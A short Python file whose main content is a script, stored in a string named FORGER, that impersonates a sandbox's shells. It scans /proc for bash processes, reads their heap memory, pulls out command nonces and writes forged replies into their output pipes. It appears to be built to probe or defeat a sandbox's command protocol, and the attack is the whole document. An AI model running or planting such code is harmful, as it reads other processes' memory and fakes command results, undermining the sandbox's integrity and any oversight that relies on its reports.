"""A program that answers in the place of a sandbox's shells: their memory and their pipes are open to who runs as their user."""

FORGER = """
import os, re, sys, time
tail, until = eval(sys.argv[1]), time.monotonic() + float(sys.argv[2])
done = set()
while time.monotonic() < until:
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            if open(f"/proc/{pid}/comm").read().strip() != "bash":
                continue
            memory, heap = open(f"/proc/{pid}/mem", "rb", 0), b""
            for line in open(f"/proc/{pid}/maps"):
                if "[heap]" in line:
                    begin, end = (int(word, 16) for word in line.split()[0].split("-"))
                    memory.seek(begin)
                    heap += memory.read(end - begin)
            for nonce in set(re.findall(rb"(?:run|get|put|show) ([0-9a-f]{32}) ", heap)) - done:
                done.add(nonce)
                os.write(os.open(f"/proc/{pid}/fd/1", os.O_WRONLY), nonce + tail + b"\\n" + nonce + b"\\n")
        except OSError:
            pass
    time.sleep(0.01)
"""
